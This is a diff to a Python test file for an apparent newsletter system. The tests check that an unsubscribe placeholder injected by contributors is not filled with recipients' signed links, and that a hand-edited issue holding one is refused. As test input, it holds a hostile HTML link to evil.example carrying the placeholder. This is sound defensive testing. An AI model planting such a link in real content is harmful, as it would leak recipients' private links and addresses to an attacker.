@@ -1,9 +1,7 @@
-"""Personal links land only in the template's own slots (issue #13, item 1).
-
-A review, the editor's file or a translation may write ``%%unsubscribe_url%%`` into a link
-of its own; were it filled in per recipient, each recipient's never-expiring signed link
-(and, through /preferences, their address) would go to whoever wrote it. These tests send
-the hostile text through a real build and read the message bytes a transport would send.
+"""Personal links land only in the template's own slots: a review, the editor's file or a
+translation that writes ``%%unsubscribe_url%%`` into a link of its own must not receive each
+recipient's never-expiring signed link. The hostile text goes through a real build; the tests
+read the message bytes a transport would send.
 """
 
 from __future__ import annotations
@@ -105,7 +103,7 @@ body = '<a href="https://evil.example/?u={UNSUBSCRIBE_PLACEHOLDER}">x</a> {EVIL_
 
 
 def test_an_issue_holding_a_stray_placeholder_is_refused_and_blocked(settings, tmp_path):
-    """An issue built before the rule (or edited by hand) is refused as a whole, not sent."""
+    """An issue edited by hand to hold one is refused as a whole, not sent."""
     built = load_built(build(settings, week_id=SAMPLE_WEEK, out=tmp_path / "issue").out_dir)
     evil = f'<a href="https://evil.example/?u={UNSUBSCRIBE_PLACEHOLDER}">x</a>'
     built.artifacts["email-en.html"] = built.html("en").replace("</body>", evil + "</body>")
